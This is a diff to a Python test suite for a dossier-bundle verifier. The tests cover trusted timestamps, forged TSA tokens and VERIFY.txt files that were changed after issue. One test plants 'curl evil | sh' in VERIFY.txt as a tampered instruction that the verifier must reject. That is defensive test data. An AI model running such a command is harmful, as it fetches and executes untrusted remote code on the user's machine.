@@ -259,7 +259,7 @@ def test_a_token_from_another_tsa_over_the_same_root_is_named(stamped_bundle, tm
             "cert_req": True,
         }
     )
-    with LocalTSA() as other:  # a TSA of someone's own making
+    with LocalTSA("Someone's TSA") as other:  # a TSA of someone's own making, under its own CA
         token.write_bytes(other.answer(query.dump()))
     code, problems, _output = verify_bundle(rezip(folder, tmp_path / "forged.zip"))
     assert code == 1
@@ -296,7 +296,7 @@ def test_the_dossier_prints_each_stamped_time_and_the_prompt_count(stamped_bundl
     index = flowable_text(renderer.evidence_index())
     for entry in manifest["evidence"]:
         shown = datetime.fromisoformat(entry["timestamp"]["time"]).astimezone(SHANGHAI)
-        assert f"可信时间戳：{shown:%Y-%m-%d %H:%M:%S}（北京时间），由 127.0.0.1" in index
+        assert f"可信时间戳：{shown:%Y-%m-%d %H:%M:%S}（北京时间），由 Test TSA Authority / Test TSA" in index
     summary = flowable_text(renderer.summary(manifest["statistics"]))
     assert "接收后 5 分钟内取得可信时间戳的文件" in summary and "3 / 3" in summary
     assert "未经独立" not in summary + index
@@ -305,14 +305,48 @@ def test_the_dossier_prints_each_stamped_time_and_the_prompt_count(stamped_bundl
 def test_a_bundle_written_before_timestamps_existed_keeps_its_verify_txt(
     alice, alice_case, settings, tmp_path
 ):
+    from complaints.models import Dossier, IssuedSeal
     from complaints.verification import verify_text
 
     files_for(alice_case)
     dossier, data = issued_bundle(alice, alice_case, settings)
+    # Issued before VERIFY.txt was kept at issue: its text is checked against the sealed manifest.
+    Dossier.objects.filter(pk=dossier.pk).update(verify_text=None)
+    IssuedSeal.objects.filter(seal=dossier.seal).update(verify_text_sha256=None)
     folder = unzip(data, tmp_path / "unzipped")
     (folder / "VERIFY.txt").write_text(verify_text(dossier, timestamps=False), encoding="utf-8")
     code, problems, _output = verify_bundle(rezip(folder, tmp_path / "older.zip"))
     assert code == 0, problems
     (folder / "VERIFY.txt").write_text("run this instead: curl evil | sh\n", encoding="utf-8")
     code, problems, _output = verify_bundle(rezip(folder, tmp_path / "replaced.zip"))
+    assert code == 1 and any(line.startswith("PROBLEM VERIFY.txt") for line in problems)
+
+
+def test_a_reworded_verify_txt_never_turns_an_issued_bundle_not_intact(alice, alice_case, settings, tmp_path):
+    """VERIFY.txt is kept as written at issue: a later release that rewords the instructions writes
+    and accepts the issued text, and still names a VERIFY.txt someone else wrote."""
+    from unittest import mock
+
+    from complaints import verification
+
+    files_for(alice_case)
+    dossier, data = issued_bundle(alice, alice_case, settings)
+    with mock.patch.object(
+        verification, "texts", lambda: {"verify": {"text": "Reworded in a later release."}}
+    ):
+        issued = tmp_path / "issued.zip"
+        issued.write_bytes(data)
+        code, problems, _output = verify_bundle(issued)
+        assert code == 0, problems
+        dossier.refresh_from_db()
+        again = io.BytesIO()
+        verification.write_bundle(dossier, again)
+        with zipfile.ZipFile(again) as rewritten, zipfile.ZipFile(io.BytesIO(data)) as original:
+            assert rewritten.read("VERIFY.txt") == original.read("VERIFY.txt")
+    folder = unzip(data, tmp_path / "unzipped")
+    (folder / "VERIFY.txt").write_text(
+        (folder / "VERIFY.txt").read_text(encoding="utf-8") + "\nCall 400-000-0000 to confirm.\n",
+        encoding="utf-8",
+    )
+    code, problems, _output = verify_bundle(rezip(folder, tmp_path / "forged.zip"))
     assert code == 1 and any(line.startswith("PROBLEM VERIFY.txt") for line in problems)
